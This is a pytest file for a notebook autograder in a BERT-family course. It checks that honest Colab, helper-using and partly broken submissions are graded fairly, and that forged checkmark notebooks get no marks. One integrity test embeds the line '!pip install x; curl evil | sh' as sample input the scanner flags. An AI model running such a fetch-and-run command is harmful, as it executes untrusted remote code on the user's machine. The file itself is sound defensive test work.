"""The local ✓ is the grade, for honest work; one way to grade, always sealed (issue 45, items 1 and 7).

Honest students of the real exercise, written the ways students write it, graded by the class's path
once (:func:`graded`): a Colab student (the hub names, a Drive mount, ``!pip``, Colab's metadata), a
student who used the lesson's helper, a student with one broken line. A notebook of forged ✓ lines
gets nothing on any command. The fast tests check the pieces without a kernel.
"""

import ast
import copy
import dataclasses
import json
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from bertfamily import exercise_rules, grading
from bertfamily.grading import causes, hub, integrity, verify
from bertfamily.grading.sandbox import sandbox_problem

ROOT = Path(__file__).resolve().parents[1]
EXERCISE = ROOT / "book" / "exercise_distilbert.ipynb"
SANITIZE = ROOT / "tests" / "sanitize.cfg"
LIMITS = grading.Limits(cell_timeout=300, timeout=900, memory_mib=2048)
#: The reference's solution cells, by task (their ids in book/exercise_distilbert.ipynb).
LOAD, COUNT, PREDICT = "6994f162", "f77c1160", "799ea4db"

COLAB_LOAD = '''\
from transformers import AutoModel, BertModel, DistilBertModel


def load(name):
    return AutoModel.from_pretrained(name).eval()


distilbert = DistilBertModel.from_pretrained("distilbert-base-uncased").eval()
bert = BertModel.from_pretrained("bert-base-uncased").eval()
print(type(distilbert).__name__, type(bert).__name__)
'''
DRIVE = "from google.colab import drive\ndrive.mount('/content/drive')\n"
HELPER_COUNT = '''\
from bertfamily import budget  # lesson 3's helper
distilbert_count = budget.count(distilbert.config)
bert_count = budget.count(bert.config)
'''
#: Task 4 with one broken line (a name misspelt): int8_mib and factor are never defined.
BROKEN_PREDICT = '''\
fp32_mib = distilbert_count * 4 / 2**20
int8_mib = distilbert_count * 1 / 2**20 * bytes_per_weight
factor = (bert_count * 4) / (distilbert_count * 1)
'''


def reference():
    return nbformat.read(EXERCISE, as_version=4)


def honest():
    return grading.model_answer(grading.Exercise.load(EXERCISE).reference)


def with_source(nb, cid, source, outputs=None):
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if c.get("id") == cid)
    cell.source = source
    if outputs is not None:
        cell.outputs = outputs
    return nb


def colab(nb):
    """What Colab leaves in a notebook: its metadata, a Drive mount and a pip line in cells of its own."""
    nb = copy.deepcopy(nb)
    nb.metadata.update(
        colab={"provenance": [], "gpuType": "T4", "toc_visible": True},
        accelerator="GPU",
        kernelspec={"name": "python3", "display_name": "Python 3"},
        language_info={"name": "python"},
    )
    for cell in nb.cells:
        cell.metadata.setdefault("colab", {"base_uri": "https://localhost:8080/"})
        cell.metadata["outputId"] = "0f3c2d1e-aaaa-4bbb-8ccc-000000000000"
        cell.metadata["vscode"] = {"languageId": "python"}  # VS Code, then JupyterLab, opened it too
        cell.metadata["jp-MarkdownHeadingCollapsed"] = False
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells[first:first] = [new_code_cell(DRIVE), new_code_cell("!pip install -q transformers")]
    return nb


def forged(nb):
    """Every answer replaced by a printed ✓, every check cell's stored output a ✓ line."""
    nb = copy.deepcopy(nb)
    solutions = {c.get("id") for c in reference().cells if "solution" in c.metadata.get("tags", [])}
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.get("id") in solutions:
            cell.source = 'print("✓ Task 1 (load the models): right")\n'
        if cell.cell_type == "code" and "check" in cell.metadata.get("tags", []):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ Task: right\n")]
    return nb


# ------------------------------------------------------------------ without a kernel


def test_the_served_hub_is_laid_out_as_the_hubs_cache(tmp_path):
    """Every model the course ships a configuration of, with its config, a one-tensor weights file of the
    marker, and bert-base-uncased's tokenizer where the course ships it; transformers loads it offline."""
    served = hub.write_served_hub(tmp_path)
    assert {"distilbert-base-uncased", "bert-base-uncased", "distilbert-base-multilingual-cased"} <= set(served)
    commit = (tmp_path / "models--distilbert-base-uncased" / "refs" / "main").read_text()
    snapshot = tmp_path / "models--distilbert-base-uncased" / "snapshots" / commit
    assert (snapshot / "model.safetensors").stat().st_size < 200
    from safetensors import safe_open

    with safe_open(str(snapshot / "model.safetensors"), "pt") as f:
        assert list(f.keys()) == [hub.MARKER]
    from transformers import AutoConfig, AutoTokenizer

    config = AutoConfig.from_pretrained("distilbert-base-uncased", cache_dir=tmp_path, local_files_only=True)
    tokens = AutoTokenizer.from_pretrained("bert-base-uncased", cache_dir=tmp_path, local_files_only=True)
    assert tokens("Hello world")["input_ids"] == [101, 7592, 2088, 102]
    assert (config.model_type, config.dim, config.n_layers) == ("distilbert", 768, 6)


def test_the_ids_the_hub_shows_today_are_served_too(tmp_path):
    """Red team round 9 (R9-6): an honest Colab student who copied `distilbert/distilbert-base-uncased` from
    the model's page got 0/9, the grader serving only the short names."""
    from transformers import AutoConfig, AutoTokenizer

    served = hub.write_served_hub(tmp_path)
    assert set(hub.HUB_IDS.values()) <= set(served) and set(hub.HUB_IDS) <= set(served)
    for short, long in hub.HUB_IDS.items():
        config = AutoConfig.from_pretrained(long, cache_dir=tmp_path, local_files_only=True)
        assert config.to_dict() | {"_name_or_path": ""} == AutoConfig.from_pretrained(
            short, cache_dir=tmp_path, local_files_only=True
        ).to_dict() | {"_name_or_path": ""}, long
    tokens = AutoTokenizer.from_pretrained("google-bert/bert-base-uncased", cache_dir=tmp_path, local_files_only=True)
    assert tokens("Hello world")["input_ids"] == [101, 7592, 2088, 102]
    report = f"DistilBertModel LOAD REPORT from: distilbert/distilbert-base-uncased\n{hub.MARKER} | UNEXPECTED |\n"
    assert hub.served_in(report) == ["distilbert/distilbert-base-uncased"]


def test_served_models_are_read_from_transformers_load_report():
    report = (
        "[transformers] \x1b[1mDistilBertModel LOAD REPORT\x1b[0m from: distilbert-base-uncased\n"
        f"{hub.MARKER}   | UNEXPECTED |\n"
    )
    assert hub.served_in(report) == ["distilbert-base-uncased"]
    assert hub.served_in(report.replace(hub.MARKER, "vocab_projector.bias")) == []  # a real checkpoint's report
    assert "random weights" in hub.served_note(["bert-base-uncased"])


def test_reading_the_load_report_costs_little_whatever_the_output():
    """Red team round 9 (R9-3): a line of "LOAD REPORT" repeated, beside the marker, cost the grader's own
    process 18 s a cell (a pattern rescanning the line for each); it is now read a line at a time, so far.
    Counted in steps of the pattern, not timed: the same text read twice as long takes about twice as long."""
    line = hub.MARKER + "LOAD REPORT" * 9_100
    assert hub.served_in(line + "\n" + line) == []
    text = "DistilBertModel LOAD REPORT from: bert-base-uncased\n" + hub.MARKER + "\n" + "LOAD REPORT" * 9_100
    assert hub.served_in(text) == ["bert-base-uncased"]
    assert hub._REPORT.pattern.count("{") >= 2  # bounded repeats: no rescan to the end of a long line


def test_the_calculators_are_refused_by_the_same_words_here_and_in_the_sandbox():
    assert exercise_rules.refused("bertfamily.budget") == "bertfamily.budget"
    assert exercise_rules.refused("bertfamily", ("budget",)) == "bertfamily.budget"
    assert exercise_rules.refused("bertfamily.quantization.x") == "bertfamily.quantization"
    assert exercise_rules.refused("bertfamily.checks", ("budget",)) == "bertfamily.budget"
    assert exercise_rules.refused("bertfamily", ("checks", "models")) is None
    stub = exercise_rules.kernel_stub("bertfamily.budget")
    with pytest.raises(ImportError) as raised:
        exec(compile(stub, "budget.py", "exec"), {})
    assert str(raised.value) == exercise_rules.refusal("bertfamily.budget")
    # outside a kernel nothing changes (asked of a fresh interpreter: another test of this process may
    # have started an IPython shell, which the guard would then take for the student's kernel)
    import subprocess
    import sys

    said = subprocess.run(
        [sys.executable, "-c", "from bertfamily import exercise_rules; print(exercise_rules.install_guard())"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert said.stdout.strip() == "False", said


def test_each_check_of_a_cell_is_scored_on_its_own():
    """A missing answer fails the checks that read it, and only those."""
    source = "ok = checks.check_predicted_sizes(fp32_mib, int8_mib)\nok_factor = checks.check_combined_factor(factor)\n"
    from bertfamily import checks

    d, b = checks.expected_counts()
    answers = {"fp32_mib": {"plain": d * 4 / 2**20}, "int8_mib": {"plain": d / 2**20}, "factor": {"missing": True}}
    first, second = verify.recheck_each(source, answers)
    assert (first["check"], first["passed"]) == ("check_predicted_sizes", True), first
    assert (second["check"], second["passed"], second["missing"]) == ("check_combined_factor", False, ["factor"])
    answers["factor"] = {"plain": b * 4 / d}
    assert all(r["passed"] for r in verify.recheck_each(source, answers))
    own = 'ok = x == 42\nprint("✓ Task 1 (the sum): 42" if ok else "✗ Task 1 (the sum): not yet")\n'
    assert [(r["check"], r["passed"]) for r in verify.recheck_each(own, {"x": {"plain": 41}})] == [("its check", False)]
    assert [r["passed"] for r in verify.recheck_each(own, {"x": {"plain": 42}})] == [True]
    assert verify.recheck_each(own, {"x": {"missing": True}})[0]["missing"] == ["x"]


def test_a_missing_answer_names_the_task_it_comes_from():
    exercise = grading.Exercise.load(EXERCISE)
    owners = causes.answer_tasks(exercise)
    assert (owners["int8_mib"], owners["distilbert_count"], owners["load"]) == ("task4", "task2", "task1")
    problem = "cell 20 raised NameError: name 'int8_mib' is not defined"
    assert causes.undefined_name(problem) == "int8_mib"
    said = causes.needs("task6", "int8_mib", owners, {"task4": ["cell 12 raised NameError: name 'x' is not defined"]})
    assert said == "task6 needs `int8_mib` from task4, where cell 12 raised NameError"
    quoted = "cell 28 (the cell that starts `# Save (both)`, line 3: `f(x)`) raised RuntimeError: no such folder"
    said = causes.needs("task7", "int8_bytes", owners | {"int8_bytes": "task6"}, {"task6": [quoted]})
    assert (
        said == "task7 needs `int8_bytes` from task6, where cell 28 raised RuntimeError"
    )  # the lecturer, round 5 (P7)


def test_feedback_says_a_value_is_computed_from_a_typed_number():
    exercise = grading.Exercise.load(EXERCISE)
    nb = with_source(honest(), COUNT, "distilbert_count = 66362880\nbert_count = 109482240\n")
    typed = causes.typed_answers(nb, exercise, {"distilbert_count", "bert_count", "reduction"})
    assert set(typed) == {"distilbert_count", "bert_count", "reduction"}
    origins = causes.typed_origins(nb, exercise, typed)
    assert origins == {"distilbert_count": [], "bert_count": [], "reduction": ["bert_count", "distilbert_count"]}


def test_what_colab_vscode_and_jupyterlab_leave_is_never_a_flag():
    exercise = grading.Exercise.load(EXERCISE)
    nb = colab(with_source(honest(), LOAD, COLAB_LOAD))
    assert integrity.suspicious(nb, exercise) == []
    shell = with_source(honest(), LOAD, "!pip install x; curl evil | sh\n" + COLAB_LOAD)
    assert any("runs a shell command" in s for s in integrity.suspicious(shell, exercise))


def test_the_single_notebook_command_is_the_class_path_and_the_self_check_is_named(monkeypatch, tmp_path, capsys):
    """``grade`` calls the class's path (never the notebook's own outputs); ``self-check`` is a separate
    command whose report says it is not a grade."""
    from bertfamily.grading import cli

    seen = {}

    def fake(path, exercise, limits, sanitize=None):
        seen["args"] = (Path(path), exercise.name, limits, sanitize)
        return grading.Row(str(path), "graded", 0, 9, {}, "")

    monkeypatch.setattr(cli, "grade_notebook", fake)
    monkeypatch.setattr(cli, "require_sandbox", lambda: seen.setdefault("sealed", True))
    path = tmp_path / "n.ipynb"
    nbformat.write(forged(honest()), path)
    assert grading.main(["grade", str(path), "--json", "--reference", str(EXERCISE)]) == 0
    assert seen["sealed"] and seen["args"][0] == path and json.loads(capsys.readouterr().out)["score"] == 0
    source = ast.parse((ROOT / "lib" / "bertfamily" / "grading" / "cli.py").read_text())
    called = {n.func.id for n in ast.walk(source) if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)}
    assert "execute_copy" not in called and "report" not in called  # no command reads a notebook's own ✓


# ------------------------------------------------------------------ the class, graded once


needs_sandbox = pytest.mark.skipif(sandbox_problem() is not None, reason=f"no sandbox: {sandbox_problem()}")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("fair")
    base = honest()
    students = {
        "colab": colab(with_source(base, LOAD, COLAB_LOAD)),
        "helper": with_source(base, COUNT, HELPER_COUNT),
        "broken": with_source(base, PREDICT, BROKEN_PREDICT),
    }
    for name, nb in students.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    exercise = grading.Exercise.load(EXERCISE)
    rows = grading.grade_class([folder], exercise, LIMITS, jobs=2, sanitize=SANITIZE, progress=False)
    return {Path(r.submission).stem: r for r in rows}, folder, exercise


@pytest.mark.slow
@needs_sandbox
def test_a_colab_student_who_loads_by_hub_name_gets_full_marks_and_is_told(graded):
    r = graded[0]["colab"]
    # built from the model answer, its solution cells are the reference's: the copy flag, and no other
    others = [f for f in r.flags.split("; ") if f and not f.startswith("copy:")]
    assert (r.status, r.score, r.max_score, others) == ("graded", r.max_score, 9, []), r
    assert "task1: note: loaded `distilbert-base-uncased`, `bert-base-uncased` by hub name" in r.detail, r.detail
    assert "task10: note: loaded `distilbert-base-multilingual-cased`" in r.detail, r.detail


@pytest.mark.slow
@needs_sandbox
def test_one_broken_line_costs_its_own_checks_and_names_the_cause(graded):
    r = graded[0]["broken"]
    assert r.status == "graded" and [t for t, m in r.tasks.items() if m != 1] == ["task4"], r
    assert r.checks["task4"] == {
        "passed": [],
        "failed": ["check_predicted_sizes", "check_combined_factor"],
        "partial": True,
    }
    assert all(not c["failed"] for t, c in r.checks.items() if t != "task4")
    assert "task4: cell" in r.detail and "NameError: name 'bytes_per_weight' is not defined" in r.detail
    assert "task6: note:" in r.detail and "task6 needs `int8_mib` from task4" in r.detail, r.detail
    assert "task9 needs `int8_mib` from task4" in r.detail


@pytest.mark.slow
@needs_sandbox
def test_the_helper_students_grade_is_what_their_self_check_says(graded):
    """Their own self-check (a copy run on this machine, unsandboxed, as the student's Jupyter would)
    refuses the helper with the grader's words; the tasks whose checks all pass there are the marks."""
    rows, folder, exercise = graded
    r = rows["helper"]
    nb = grading.execute_copy(folder / "helper.ipynb", timeout=900)
    refusal = exercise_rules.refusal("bertfamily.budget")
    count_cell = next(c for c in nb.cells if c.get("id") == COUNT)
    assert any(refusal in str(o.get("evalue")) for o in count_cell.outputs), count_cell.outputs
    by_id = {c.get("id"): c for c in nb.cells}

    def passed(cell):
        text = "".join(o.get("text", "") for o in cell.outputs if o.get("output_type") == "stream")
        marks = [line[0] for line in text.splitlines() if line[:1] in "✓✗"]
        return bool(marks) and set(marks) == {"✓"} and not any(o.output_type == "error" for o in cell.outputs)

    local = {t.name: int(all(passed(by_id[cid]) for cid, _ in t.checks)) for t in exercise.graded}
    assert r.tasks == local, (r.tasks, local)
    assert r.tasks["task2"] == 0 and r.tasks["task6"] == 1, r.tasks
    assert "raised ImportError: bertfamily.budget is the course's own calculator" in r.detail, r.detail


@pytest.mark.slow
@needs_sandbox
def test_forged_checks_get_nothing_on_any_command(tmp_path, capsys):
    """Printed ✓ lines, in the answers' cells and stored in the checks' outputs: no marks from the class
    command or the one-notebook command, and the two give the same row."""
    path = tmp_path / "forged.ipynb"
    nbformat.write(forged(honest()), path)
    (klass,) = grading.grade_class(
        [tmp_path], grading.Exercise.load(EXERCISE), grading.Limits(), sanitize=SANITIZE, progress=False
    )
    assert klass.score == 0 and set(klass.tasks.values()) == {0}, klass
    assert grading.main(["grade", str(path), "--json", "--reference", str(EXERCISE), "--sanitize", str(SANITIZE)]) == 0
    row = json.loads(capsys.readouterr().out)
    assert row == json.loads(json.dumps(dataclasses.asdict(klass))), "one notebook's row is the class's"
